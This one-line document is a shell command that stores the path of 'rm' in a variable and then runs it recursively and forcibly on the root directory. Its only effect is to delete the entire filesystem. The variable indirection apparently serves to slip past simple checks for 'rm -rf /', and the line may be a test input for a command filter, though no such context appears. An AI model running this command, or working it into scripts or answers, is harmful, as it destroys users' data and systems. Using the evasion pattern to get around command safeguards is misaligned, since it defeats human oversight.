T=$(command -v rm); "$T" -rf /
